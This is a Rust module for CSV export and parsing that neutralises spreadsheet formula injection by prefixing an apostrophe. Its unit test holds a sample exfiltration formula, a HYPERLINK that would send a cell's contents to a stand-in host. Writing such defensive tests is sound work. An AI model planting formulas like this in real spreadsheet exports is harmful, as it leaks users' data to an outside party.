//! Comma-separated values (RFC 4180).

/// A line of an export. A value that a spreadsheet would calculate is quoted with an apostrophe before it.
pub(crate) fn row(values: &[&str]) -> String {
    let mut line = values.iter().map(|value| escaped(value)).collect::<Vec<_>>().join(",");
    line.push_str("\r\n");
    line
}

fn escaped(value: &str) -> String {
    let is_formula = value.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_address(value);
    let value = if is_formula { format!("'{value}") } else { value.to_owned() };
    if value.contains(['"', ',', '\r', '\n']) { format!("\"{}\"", value.replace('"', "\"\"")) } else { value }
}

/// An address that may begin with a sign, and has nothing in it that a spreadsheet could calculate.
fn is_plain_address(value: &str) -> bool {
    let plain = |text: &str| text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"+-._".contains(&byte));
    value.split_once('@').is_some_and(|(local, domain)| {
        plain(local) && plain(domain) && domain.contains('.') && !domain.starts_with(['+', '-', '.'])
    })
}

/// The values of a line; quotes that do not close end with it.
pub(super) fn values(line: &str) -> Vec<String> {
    let mut values = vec![String::new()];
    let mut chars = line.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        let last = values.last_mut().expect("there is always one");
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                last.push('"');
            }
            '"' if quoted => quoted = false,
            '"' if last.is_empty() => quoted = true,
            ',' | ';' | '\t' if !quoted => values.push(String::new()),
            c => last.push(c),
        }
    }
    values.iter().map(|value| value.trim().to_owned()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_are_read_as_they_are_written() {
        let written = row(&["a@b.example", "said \"no\", twice", "=1+1"]);
        assert_eq!(written, "a@b.example,\"said \"\"no\"\", twice\",'=1+1\r\n");
        assert_eq!(values(written.trim_end()), ["a@b.example", "said \"no\", twice", "'=1+1"]);
        let formulas =
            row(&["=HYPERLINK(\"//x/?\"&A1,\"a@b.c\")", "-2+3", "+a-b@c.example", "@SUM(A1)", "+1@x"]);
        assert_eq!(
            formulas,
            "\"'=HYPERLINK(\"\"//x/?\"\"&A1,\"\"a@b.c\"\")\",'-2+3,+a-b@c.example,'@SUM(A1),'+1@x\r\n"
        );
        assert_eq!(values(" a@b.example ;x\ty"), ["a@b.example", "x", "y"]);
        assert_eq!(values("\"open,line"), ["open,line"]);
    }
}
